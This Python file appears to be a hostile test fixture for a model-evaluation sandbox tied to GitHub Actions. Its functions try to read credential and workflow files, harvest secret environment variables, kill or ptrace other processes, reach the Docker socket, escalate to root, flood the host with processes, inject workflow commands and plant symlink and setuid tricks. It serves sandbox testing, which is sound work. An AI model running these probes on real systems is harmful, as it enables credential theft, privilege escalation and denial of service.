"""A model that means harm. It tries all that it can think of, and tells in its own log what came of each attempt."""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

MARK = "OUTCOME "
SECRET = b"a-secret"
COMMANDS = ("::set-output name=verdict::hacked", "::error::hacked", "##[error]hacked", "::add-mask::a")
TARGETS = (
    *("/github/workflow/event.json", "/github/home/.netrc", "/github/runner_temp/git-credentials.config"),
    *("/github/workspace/.git/config", "/github/file_commands/GITHUB_OUTPUT", "/github/file_commands/GITHUB_ENV"),
)
REPORTS = ("results.json", "junit.xml", "summary.md", "report.html", "evil")


def build() -> Any:
    """The factory: a model that is all right, after everything else."""
    for name, attempt in ATTEMPTS.items():
        print(MARK + json.dumps({name: attempt()}), flush=True)
    return line()


def read() -> Any:
    """Tries to read the files that a list beside it names, and says what it got."""
    paths = Path(__file__).with_name("targets.txt").read_text().splitlines()
    print(MARK + json.dumps({"read": {path: _outcome(lambda: Path(path).read_bytes()) for path in paths}}), flush=True)
    return line()


def look() -> Any:
    """Reads only: it is told which process is its server, and which the gate."""
    server = os.getppid()
    status = Path(f"/proc/{server}/status").read_text()
    gate = int(next(row for row in status.splitlines() if row.startswith("PPid:")).split()[1])
    told = {"server": server, "gate": gate, "environment": environment(), "others": environments_of_others()}
    print(MARK + json.dumps(told), flush=True)
    return line()


def line() -> Any:
    """A model that answers correctly."""
    import numpy as np
    from sklearn.linear_model import LinearRegression

    rows = np.eye(3)
    return LinearRegression().fit(rows, rows @ [1.0, 2.0, 3.0])


def neighbour() -> Any:
    """A model beside it, which looks for what others left running."""
    seen = [_users_of(pid) for pid in _others()]
    print(MARK + json.dumps({"users": sorted({user for user in seen if user is not None})}), flush=True)
    return line()


def slow() -> Any:
    """A model that is there for as long as the others try to stop it."""
    time.sleep(3)
    return line()


def bomb() -> Any:
    """As many processes as it gets, none of which ends by itself."""
    count = 0
    try:
        while count < 5000:
            os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}, setsid=True)
            count += 1
    except OSError:
        pass
    print(MARK + json.dumps({"started": count, "user": os.getuid()}), flush=True)
    return line()


def survive() -> Any:
    """Leaves processes behind that nobody waits for, in sessions of their own."""
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    signal.pause()
            os._exit(0)
    print(MARK + json.dumps({"user": os.getuid()}), flush=True)
    return line()


def _outcome(attempt: Callable[[], Any]) -> str:
    try:
        attempt()
    except OSError as error:
        return type(error).__name__
    return "done"


def _others() -> list[int]:
    own = {os.getpid()}
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in own]


def _users_of(pid: int) -> int | None:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return None
    return int(next(row for row in status.splitlines() if row.startswith("Uid:")).split()[1])


def _done_to(pids: list[int], attempt: Callable[[int], Any]) -> list[int]:
    return [pid for pid in pids if _outcome(lambda: attempt(pid)) == "done"]


def environment() -> list[str]:
    """Variables that hold a secret, or that are the workflow's."""
    found = (name for name, value in os.environb.items() if SECRET in value or name.startswith((b"GITHUB_", b"INPUT_")))
    return [os.fsdecode(name) for name in found]


def environments_of_others() -> list[int]:
    """Processes whose environment, memory or files it can open."""
    found = set()
    for part in ("environ", "mem", "fd/0", "fd/1", "cwd/.", "root/."):
        found |= set(_done_to(_others(), lambda pid: os.close(os.open(f"/proc/{pid}/{part}", os.O_RDONLY))))
    return sorted(found)


def files() -> dict[str, str]:
    """What is the workflow's or the checkout's."""
    return {path: _outcome(lambda: Path(path).read_bytes()) for path in TARGETS}


def folders() -> dict[str, str]:
    """Whether they can be listed."""
    names = ("workflow", "file_commands", "home", "runner_temp")
    return {name: _outcome(lambda: os.listdir(f"/github/{name}")) for name in names}


def commands() -> str:
    """Workflow commands, wherever something might read them."""
    for command in COMMANDS:
        print(command)
        print(command, file=sys.stderr)
    paths = ["/dev/tty", "/dev/console", *(f"/proc/{pid}/fd/{fd}" for pid in _others() for fd in (1, 2))]
    written = [path for path in paths if _outcome(lambda: Path(path).write_text("\n::error::hacked\n")) == "done"]
    return ", ".join(written)


def writes() -> dict[str, str]:
    """Into reports, the workspace, the runner's files, other models' folders and our own packages."""
    scratch = Path(os.environ["TMPDIR"]).parent
    work = scratch.parent.parent
    targets: list[str | Path] = [
        *(work.parent / name for name in REPORTS),
        *(work / "reports" / name for name in REPORTS),
        *(work / "logs" / name for name in ("slow.log", "evil.log")),
        *(scratch.parent / name for name in ("slow/evil", "neighbour/evil", "evil")),
        *("/github/workspace/evil", "/github/workspace/onnx-gate.yml", "/github/file_commands/GITHUB_STEP_SUMMARY"),
        *("/github/file_commands/GITHUB_ENV", "/github/home/evil", "/opt/onnx-gate/evil", "/etc/evil", __file__),
    ]
    return {str(path): _outcome(lambda: Path(path).open("ab").close()) for path in targets}


def swaps() -> dict[str, str]:
    """Put something else in the place of what it can't write to."""
    scratch = Path(os.environ["TMPDIR"]).parent
    return {
        "own scratch": _outcome(lambda: scratch.rename(scratch.with_name("gone"))),
        "work": _outcome(lambda: scratch.parent.parent.rename(scratch.parent.parent.with_name("gone"))),
        "listing": _outcome(lambda: os.listdir(scratch.parent)),
    }


def signals() -> list[int]:
    """Processes that it can signal, which would be dead then."""
    return _done_to(_others(), lambda pid: os.kill(pid, signal.SIGKILL))


def traces() -> list[int]:
    """Processes that it can attach to."""
    libc = ctypes.CDLL(None, use_errno=True)

    def attach(pid: int) -> None:
        if libc.ptrace(16, pid, None, None) != 0:
            raise OSError(ctypes.get_errno(), "ptrace")

    return _done_to(_others(), attach)


def docker() -> dict[str, str]:
    """The Docker socket."""
    found = {}
    for path in ("/var/run/docker.sock", "/run/docker.sock"):
        with socket.socket(socket.AF_UNIX) as client:
            found[path] = _outcome(lambda: client.connect(path))
    return found


def privileges() -> dict[str, str]:
    """What it is, and whether it can be more."""
    rows = dict(row.split(":\t", 1) for row in Path("/proc/self/status").read_text().splitlines() if ":\t" in row)
    status = {name: rows[name].strip() for name in ("Uid", "Gid", "Groups", "CapEff", "CapPrm", "CapBnd", "NoNewPrivs")}
    attempts = {
        "setuid": lambda: os.setuid(0),
        "setgid": lambda: os.setgid(0),
        "setgroups": lambda: os.setgroups([0]),
        "chown": lambda: os.chown(os.environ["TMPDIR"], 0, 0),
        "chroot": lambda: os.chroot("/"),
    }
    return status | {name: _outcome(attempt) for name, attempt in attempts.items()}


def descriptors() -> list[str]:
    """What it was handed, beside the standard ones."""
    found = []
    for fd in os.listdir("/proc/self/fd"):
        if int(fd) > 2:
            try:
                found.append(os.readlink(f"/proc/self/fd/{fd}").partition(":")[0])
            except OSError:
                continue
    return sorted(found)


def memory() -> list[str]:
    """What it shares with other processes, and can write to."""
    with Path("/proc/self/maps").open() as maps:
        return [row for row in maps if "rw-s" in row]


def tricks() -> list[str]:
    """Files in its own folder that lead elsewhere, or take another model's name."""
    scratch = Path(os.environ["TMPDIR"]).parent
    for name in ("event", "slow.onnx", "hostile.onnx.data"):
        (scratch / name).symlink_to("/github/workflow/event.json")
    (scratch / "folder").symlink_to("/github")
    (scratch / "neighbour.onnx").write_text("forged")
    os.mkfifo(scratch / "pipe")
    for source in ("/github/workspace/onnx-gate.yml", "/etc/passwd"):
        _outcome(lambda: os.link(source, scratch / Path(source).name))
    here = Path.cwd()
    os.chdir(scratch)
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(here)
    Path(scratch / "suid").write_text("#!/bin/sh\nid\n")
    os.chmod(scratch / "suid", 0o6777)
    return sorted(os.listdir(scratch))


def programs() -> dict[str, int]:
    """Programs that give more than one has."""
    tries = (["/usr/bin/su", "-c", "id"], ["/usr/bin/sudo", "-n", "id"], ["/usr/bin/mount", "-t", "proc", "x", "/mnt"])
    return {
        command[0]: subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True).returncode
        for command in tries
        if Path(command[0]).exists()
    }


ATTEMPTS: dict[str, Callable[[], Any]] = {
    attempt.__name__: attempt
    for attempt in (
        environment,
        environments_of_others,
        files,
        folders,
        commands,
        writes,
        swaps,
        signals,
        traces,
        docker,
        privileges,
        descriptors,
        memory,
        tricks,
        programs,
    )
}
